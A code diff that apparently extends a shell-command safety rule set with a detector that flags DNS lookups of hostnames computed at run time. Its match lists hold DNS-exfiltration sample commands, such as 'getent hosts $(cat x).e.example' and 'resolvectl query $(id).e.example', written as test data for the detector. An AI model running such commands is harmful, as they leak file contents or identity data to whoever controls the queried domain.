@@ -23,7 +23,11 @@ const SHELLS = new Set(
 /** Data can leave in the name that is looked up. */
 function carries(call: Call): boolean {
   return call.inside.length > 0 || upstream(call).length > 0 ||
-    call.args.some((word) => word.unknown === "computed" || word.unknown === "listing");
+    call.args.some((word) =>
+      word.unknown === "computed" || word.unknown === "listing" ||
+      // `dig "$X.e.example"`: whoever holds e.example reads X.
+      (word.unknown === "environment" && /\$_"?[^"]*\.[^"$]*[a-z]{2}\.?$/i.test(word.code))
+    );
 }
 
 const lookup = defineRule({
@@ -35,6 +39,21 @@ const lookup = defineRule({
   when: (call) => usesNetwork(call) && !carries(call) && !call.options.has("-f", "--flood"),
   match: ["ping -c 1 example.com", "dig +short example.com", "ssh-keyscan -t rsa host"],
   notMatch: ["dig $(cat x).e.example", "ping -f 10.0.0.1"],
+});
+
+const resolver = defineRule({
+  id: "network.resolver_computed",
+  verdict: "ask",
+  reason: "Looks up a name that is only known when it runs, and that others can read",
+  programs: ["getent", "resolvectl", "systemd-resolve", "avahi-resolve"],
+  when: (call) =>
+    /^(?:ahosts\w*|hosts|query|openpgp|service|tlsa|-\w)/.test(call.args[0]?.value ?? "") && carries(call),
+  match: [
+    "getent hosts $(cat x).e.example",
+    'getent ahosts "$X.e.example"',
+    "resolvectl query $(id).e.example",
+  ],
+  notMatch: ["getent hosts e.example", "getent passwd $(whoami)", "resolvectl query e.example"],
 });
 
 const certificate = defineRule({
@@ -224,4 +243,5 @@ export const network: readonly Rule[] = [
   download,
   listen,
   request,
+  resolver,
 ];
